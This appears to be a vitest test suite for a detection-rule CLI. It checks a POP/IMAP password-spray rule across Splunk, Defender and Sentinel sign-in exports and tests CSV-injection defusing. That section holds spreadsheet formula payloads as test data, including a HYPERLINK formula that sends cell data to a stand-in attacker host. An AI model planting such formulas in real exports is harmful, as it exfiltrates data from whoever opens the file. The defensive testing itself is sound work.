// `detc run` on an analyst's export: the same sign-ins exported as Graph JSON Lines (what the
// Splunk add-on indexes), a Defender advanced-hunting CSV and a Sentinel JSON array give the
// rule's result on the canonical fixture.
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { loadCatalog } from '../../generators/catalog.ts';
import { defuseFormula } from '../../generators/cli.ts';
import { evaluateQuery } from '../../generators/ir/evaluator.ts';
import { projectPath } from '../../generators/paths.ts';
import { materialize } from '../../generators/replay/materialize.ts';
import { makeWorkspace, runCli } from '../workspace.ts';

const catalog = loadCatalog(projectPath());
const rule = catalog.rules.find((r) => r.document.name === 'pop-imap-password-spray')!;
const test = rule.tests[0]!;
const expected = evaluateQuery(rule.query, test.events, test.now);
const dir = makeWorkspace();
const now = new Date(test.now).toISOString();

async function run(file: string, ...args: string[]) {
  const r = await runCli(projectPath(), 'run', 'pop-imap-password-spray', '--events', file, '--now', now, '--format', 'json', ...args);
  return { ...r, rows: r.code === 0 ? (JSON.parse(r.out) as unknown[]) : [] };
}

describe('detc run', () => {
  it('Graph signIn JSON Lines (the Splunk add-on shape)', async () => {
    const file = join(dir, 'graph.jsonl');
    writeFileSync(file, materialize(test.events, rule.query.logsource, 'splunk').rows.map((r) => r._raw).join('\n'));
    const r = await run(file);
    expect(r.err).toMatch(/20 events read as splunk azure_aad_signin \(\d+ lines not parsed: they hold none of the rule's terms\); 1 rows/);
    expect(r.rows).toEqual(expected);
  });

  it('a Defender advanced-hunting CSV export', async () => {
    const table = materialize(test.events, rule.query.logsource, 'defender');
    const columns = table.columns.map((c) => c.name);
    const cell = (v: unknown) => (v === null || v === undefined ? '' : typeof v === 'object' ? `"${JSON.stringify(v).replace(/"/g, '""')}"` : /[",\n]/.test(String(v)) ? `"${String(v).replace(/"/g, '""')}"` : String(v));
    const file = join(dir, 'defender.csv');
    writeFileSync(file, `${columns.join(',')}\n${table.rows.map((row) => columns.map((c) => cell(row[c])).join(',')).join('\n')}\n`);
    const r = await run(file);
    expect(r.err).toMatch(/20 events read as defender EntraIdSignInEvents; 1 rows/);
    expect(r.rows).toEqual(expected);
  });

  it('a Sentinel JSON array export (ResultType as a string, LocationDetails nested)', async () => {
    const file = join(dir, 'sentinel.json');
    writeFileSync(file, JSON.stringify(materialize(test.events, rule.query.logsource, 'sentinel').rows));
    const r = await run(file);
    expect(r.err).toMatch(/20 events read as sentinel SigninLogs; 1 rows/);
    expect(r.rows).toEqual(expected);
  });

  it('says which window the rows come from: ending at --now, or one second after the latest event', async () => {
    const file = join(dir, 'window.jsonl');
    writeFileSync(file, materialize(test.events, rule.query.logsource, 'splunk').rows.map((r) => r._raw).join('\n'));
    const latest = Math.max(...test.events.map((e) => e.timestamp as number));
    const iso = (ms: number) => new Date(ms).toISOString().replace('.000Z', 'Z');
    const given = await run(file);
    expect(given.err).toContain(`; 1 rows in the window ${iso(test.now - rule.query.lookback * 1000)} – ${iso(test.now)}\n`);
    const found = await runCli(projectPath(), 'run', 'pop-imap-password-spray', '--events', file, '--format', 'json');
    expect(found.err).toContain(`rows in the window ${iso(latest + 1000 - rule.query.lookback * 1000)} – ${iso(latest + 1000)}, ending one second after the latest event (--now sets the end)\n`);
  });

  it('a bad line is reported with its line number (exit 2); --skip-bad-lines skips and counts it', async () => {
    const file = join(dir, 'broken.jsonl');
    const lines = materialize(test.events, rule.query.logsource, 'splunk').rows.map((r) => r._raw as string);
    // A line that may hold a match (IMAP4) is parsed, so its error is reported.
    lines.splice(3, 0, '{"createdDateTime": "2026-07-01T10:00:00Z", "clientAppUsed": "IMAP4", oops}');
    writeFileSync(file, lines.join('\n'));
    const failed = await run(file);
    expect(failed.code).toBe(2);
    expect(failed.err).toMatch(/broken\.jsonl:4:1: not JSON/);
    const skipped = await run(file, '--skip-bad-lines');
    expect(skipped.code).toBe(0);
    expect(skipped.err).toMatch(/20 events read as splunk azure_aad_signin \(\d+ lines not parsed[^)]*\), 1 bad records skipped/);
    expect(skipped.rows).toEqual(expected);
  });
});

describe('detc run on query files', () => {
  it('the generated SPL, run by the SPL engine on a Graph export', async () => {
    const file = join(dir, 'graph2.jsonl');
    writeFileSync(file, materialize(test.events, rule.query.logsource, 'splunk').rows.map((r) => r._raw).join('\n'));
    const r = await runCli(projectPath(), 'run', projectPath('dist/splunk/pop-imap-password-spray.spl'), '--events', file, '--now', now, '--format', 'json');
    expect(r.code).toBe(0);
    expect(JSON.parse(r.out)).toEqual([expect.objectContaining({ ipAddress: '203.0.113.7', distinct_users: 12, attempts: 15 })]);
  });

  it('the generated Sentinel KQL, run by the KQL engine on a Sentinel export', async () => {
    const file = join(dir, 'sentinel2.json');
    writeFileSync(file, JSON.stringify(materialize(test.events, rule.query.logsource, 'sentinel').rows));
    const r = await runCli(projectPath(), 'run', projectPath('dist/sentinel/pop-imap-password-spray.kql'), '--events', file, '--now', now, '--format', 'csv');
    expect(r.code).toBe(0);
    expect(r.out.split('\n')[0]).toBe('IPAddress,window,distinct_users,attempts,users,first_seen,last_seen');
    expect(r.out.split('\n')[1]).toMatch(/^203\.0\.113\.7,2026-07-01T10:00:00(\.0+)?Z,12,15,/);
  });

  it('a construct the engine does not support is an error at its line and column, exit 2', async () => {
    const query = join(dir, 'series.kql');
    writeFileSync(query, 'SigninLogs\n| make-series n = count() on TimeGenerated step 1h\n');
    const file = join(dir, 'sentinel3.json');
    writeFileSync(file, JSON.stringify(materialize(test.events, rule.query.logsource, 'sentinel').rows));
    const r = await runCli(projectPath(), 'run', query, '--events', file);
    expect(r.code).toBe(2);
    expect(r.err).toMatch(/series\.kql:2:\d+: unsupported: make-series/);
  });

  it('a line of a JSON Lines export that holds none of the rule\'s terms is not parsed, and says so', async () => {
    // The spray rule selects POP3, IMAP4 or Exchange ActiveSync sign-ins: a line naming none of
    // them cannot be one, so it is counted unparsed, even when it is not valid JSON.
    const file = join(dir, 'unparsed.jsonl');
    const lines = materialize(test.events, rule.query.logsource, 'splunk').rows.map((r) => r._raw as string);
    lines.push('{"createdDateTime": "2026-07-01T10:00:00Z", "clientAppUsed": "Browser", oops}');
    writeFileSync(file, lines.join('\n'));
    const r = await run(file);
    expect(r.code).toBe(0);
    const unparsed = lines.filter((l, i) => i > 0 && !/pop3|imap4|exchange activesync|\\/i.test(l)).length;
    expect(unparsed).toBeGreaterThan(1);
    expect(r.err).toContain(`21 events read as splunk azure_aad_signin (${unparsed} lines not parsed: they hold none of the rule's terms); 1 rows`);
    expect(r.rows).toEqual(expected);
  });
});

describe('detc run --format csv, opened in a spreadsheet', () => {
  // A cell starting with =, +, -, @, tab, CR or NUL is a formula to Excel, LibreOffice and Google
  // Sheets (https://owasp.org/www-community/attacks/CSV_Injection; OWASP ASVS 5.0 V1.2.10 names
  // the same characters): a sign-in log holds text an attacker chose, such as a user name.
  it('writes a text that would start a formula after a \'; numbers, and texts that are plain numbers, as they are', () => {
    for (const t of ['=HYPERLINK("http://x","y")', '+cmd', '-1+1', '@SUM(A1)', '\t=1', '\r=1', '\0=1', '-', '+']) expect(defuseFormula(t), JSON.stringify(t)).toBe(`'${t}`);
    for (const t of ['-5', '+3.25', '-.5', '1e-3', '-2E+10', 'user@contoso.com', 'a=b', '', "'=quoted"]) expect(defuseFormula(t), JSON.stringify(t)).toBe(t);
  });

  it('defuses what an export holds, end to end, and still quotes a cell by RFC 4180', async () => {
    const names = ['=HYPERLINK("http://evil.example/?"&A1,"open")', '@SUM(1+1)', '-2', 'alice@contoso.com'];
    const file = join(dir, 'formulas.json');
    writeFileSync(file, JSON.stringify(names.map((UserPrincipalName, i) => ({ TimeGenerated: '2026-07-01T10:00:00Z', UserPrincipalName, ResultType: String(-i) }))));
    const query = join(dir, 'names.kql');
    writeFileSync(query, 'SigninLogs\n| project UserPrincipalName, ResultType, Signed = toint(ResultType)\n');
    const r = await runCli(projectPath(), 'run', query, '--events', file, '--now', '2026-07-01T11:00:00Z', '--format', 'csv');
    expect(r.code).toBe(0);
    expect(r.out.split('\n')).toEqual([
      'UserPrincipalName,ResultType,Signed',
      `"'=HYPERLINK(""http://evil.example/?""&A1,""open"")",0,0`,
      "'@SUM(1+1),-1,-1",
      '-2,-2,-2',
      'alice@contoso.com,-3,-3',
      '',
    ]);
  });
});
